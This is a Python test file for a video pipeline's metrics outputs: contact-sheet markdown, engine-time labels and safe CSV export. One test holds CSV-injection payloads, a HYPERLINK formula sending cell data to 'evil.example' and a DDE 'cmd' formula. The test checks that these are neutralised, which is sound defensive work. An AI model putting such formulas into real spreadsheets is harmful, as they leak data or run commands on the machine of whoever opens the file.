"""Metrics outputs: metrics.csv cells a spreadsheet cannot run, the engine-time label, the
contact sheet of the summary artifact (built from MetricsRow lists, then published on a real
flow run)."""

from __future__ import annotations

import csv
import re
import uuid

import polars as pl

from tasks.metrics import (
    MetricsRow,
    metrics_frame,
    publish_artifacts,
    summary,
    summary_markdown,
    write_metrics,
)
from tasks.text import shown
from tasks.upload import LocalSink

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def succeeded(row: int, id_: str, gpu: str = "NVIDIA H200", presigned: str | None = None) -> MetricsRow:
    return MetricsRow(id=id_, row=row, status="succeeded", attempts=1, gpu=gpu, t_denoise_s=2.0, t_vae_s=0.5,
                      output_uri=f"file:///out/{id_}-abc.mp4", poster_uri=f"file:///out/{id_}-abc.jpg",
                      presigned_url=presigned, bytes=1000)


def sample_rows() -> list[MetricsRow]:
    skipped = MetricsRow(id="skip-1", row=3, status="skipped", attempts=0,
                         output_uri="s3://bucket/run/skip-1-def.mp4", poster_uri="s3://bucket/run/skip-1-def.jpg")
    failed = MetricsRow(id="oom-1", row=4, status="failed", attempts=2, gpu="NVIDIA H200",
                        error="generate: CUDA out of memory\n\x1b[31mtried to allocate 80 GiB")
    invalid = MetricsRow(id="bad-1", row=6, status="invalid", attempts=0, error="row 6 (bad-1): num_steps: 9")
    return [succeeded(1, "cat-01"), succeeded(2, "dog-01", presigned="https://r2.example/dog-01.mp4?X-Sig=a%2Fb"),
            skipped, failed, succeeded(5, "fox_01 (take 2)"), invalid,
            succeeded(7, "owl-01"), succeeded(8, "city-01")]


def pictures(markdown: str) -> list[tuple[str, str]]:
    """(poster src, link target) of each linked image in the markdown."""
    return re.findall(r"\[!\[[^\]]*\]\(([^)\s]+)\)\]\(([^)\s]+)\)", markdown)


def test_contact_sheet_one_linked_poster_per_done_row_and_each_error_once():
    rows = sample_rows()
    md = summary_markdown(metrics_frame(rows), contact_sheet=True)

    done = [r for r in rows if r.status in ("succeeded", "skipped")]
    assert md.count("![") == len(done) == 6
    assert pictures(md) == [
        ("file:///out/cat-01-abc.jpg", "file:///out/cat-01-abc.mp4"),
        ("file:///out/dog-01-abc.jpg", "https://r2.example/dog-01.mp4?X-Sig=a%2Fb"),   # presigned wins
        ("s3://bucket/run/skip-1-def.jpg", "s3://bucket/run/skip-1-def.mp4"),
        ("file:///out/fox_01 (take 2)-abc.jpg".replace(" ", "%20").replace("(", "%28").replace(")", "%29"),
         "file:///out/fox_01%20%28take%202%29-abc.mp4"),
        ("file:///out/owl-01-abc.jpg", "file:///out/owl-01-abc.mp4"),
        ("file:///out/city-01-abc.jpg", "file:///out/city-01-abc.mp4"),
    ]
    # A grid: 4 pictures to a table row, the last row padded to the same width.
    sheet = md[md.index("## Contact sheet"):md.index("## Rows that did not succeed")]
    table = [line for line in sheet.splitlines() if line.startswith("|")]
    assert len(table) == 2 + 2 and {line.count("|") for line in table} == {5}
    assert [line.count("![") for line in table[2:]] == [4, 2]
    # Failed and invalid rows beneath the sheet, each error once, escaped.
    for r in rows:
        if r.status in ("failed", "invalid"):
            assert md.count(shown(r.error)) == 1
            assert md.index(shown(r.error)) > md.index("## Contact sheet")
    assert "\x1b" not in md and "out of memory\\n" in md


def test_summary_markdown_says_engine_s_on_cpu_and_gpu_s_on_gpus():
    cpu = metrics_frame([succeeded(1, "a", gpu="cpu"), succeeded(2, "b", gpu="cpu (8 threads)"),
                         MetricsRow(id="c", row=3, status="invalid", attempts=0, error="x")])
    assert summary(cpu)["engine_label"] == "engine-s"
    header = summary_markdown(cpu).splitlines()[2]
    assert "engine-s total" in header and "engine-s per video" in header and "GPU-s" not in header

    gpu = metrics_frame([succeeded(1, "a"), succeeded(2, "b", gpu="cpu")])   # not every row on the CPU
    assert summary(gpu)["engine_label"] == "GPU-s"
    assert "| GPU-s total | GPU-s per video |" in summary_markdown(gpu)
    assert "Contact sheet" not in summary_markdown(gpu)          # only the artifact has the sheet


def test_metrics_csv_cells_cannot_run_as_formulas_parquet_keeps_raw(tmp_path):
    rows = [MetricsRow(id=FORMULA, row=1, status="failed", attempts=1, error="+cmd|' /C calc'!A0"),
            MetricsRow(id="plain-1", row=2, status="invalid", attempts=0, error="-2+3 @SUM(A1)\tx"),
            MetricsRow(id="ok-1", row=3, status="failed", attempts=1, error="\tTAB", seed=-5)]
    uris = write_metrics(metrics_frame(rows), LocalSink(tmp_path), "metrics")

    with (tmp_path / "metrics.csv").open(newline="") as f:
        cells = list(csv.DictReader(f))
    assert [c["id"] for c in cells] == ["'" + FORMULA, "plain-1", "ok-1"]
    assert [c["error"] for c in cells] == ["'+cmd|' /C calc'!A0", "'-2+3 @SUM(A1)\tx", "'\tTAB"]
    assert cells[2]["seed"] == "-5"                      # numbers are numbers, not text
    raw = pl.read_parquet(tmp_path / "metrics.parquet")
    assert raw["id"].to_list() == [FORMULA, "plain-1", "ok-1"]
    assert raw["error"].to_list()[0] == "+cmd|' /C calc'!A0"
    assert set(uris) == {"parquet", "csv"}


def test_publish_artifacts_puts_the_contact_sheet_on_the_flow_run():
    from prefect import flow
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterKey

    key = f"test-metrics-{uuid.uuid4().hex[:8]}"
    df = metrics_frame(sample_rows())

    @flow(name="publish-metrics")
    def publish() -> None:
        publish_artifacts(df, key=key)

    publish()
    with get_client(sync_client=True) as client:
        [artifact] = client.read_artifacts(
            artifact_filter=ArtifactFilter(key=ArtifactFilterKey(any_=[f"{key}-summary"])))
    assert artifact.data == summary_markdown(df, contact_sheet=True)
    assert len(pictures(artifact.data)) == 6
